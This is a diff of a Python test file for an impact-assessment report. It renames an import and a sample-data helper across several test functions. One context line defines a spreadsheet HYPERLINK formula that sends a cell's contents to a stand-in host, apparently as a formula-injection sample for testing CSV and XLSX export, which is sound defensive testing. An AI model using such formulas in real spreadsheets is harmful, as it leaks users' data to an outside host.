@@ -8,7 +8,7 @@ import pytest
 
 from assessments.impact import report as impact
 from assessments.impact.chart_data import LABEL_KEYS, Words, chart_table, chart_tables, likert_charts, likert_table
-from tests.test_impact import PEOPLE, _data
+from tests.impact_samples import PEOPLE, sample_data
 from training.exporting import csv_bytes, xlsx_bytes
 
 LABELS = {**{key: key for key in LABEL_KEYS}, "participant_number": "P%(n)s", "count_of": "%(point)s (n)",
@@ -21,7 +21,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pulse aquí")'
 
 @pytest.fixture
 def figures():
-    pre, post = _data()
+    pre, post = sample_data()
     return impact.report(PEOPLE, pre, post)
 
 
@@ -108,7 +108,7 @@ def test_a_chart_the_report_lacks_is_a_key_error_and_a_missing_label_is_named(fi
 
 
 def test_a_report_without_pairs_gives_empty_tables_not_errors():
-    pre, _post = _data()
+    pre, _post = sample_data()
     figures = impact.report(PEOPLE, pre, impact.TakenTest((), {}))
     assert chart_table(figures, "slopes", WORDS)[1] == [] and chart_table(figures, "items", WORDS)[1] == []
     assert chart_table(figures, "forest", WORDS)[1][-1] == ["overall", 0, None, None, None]
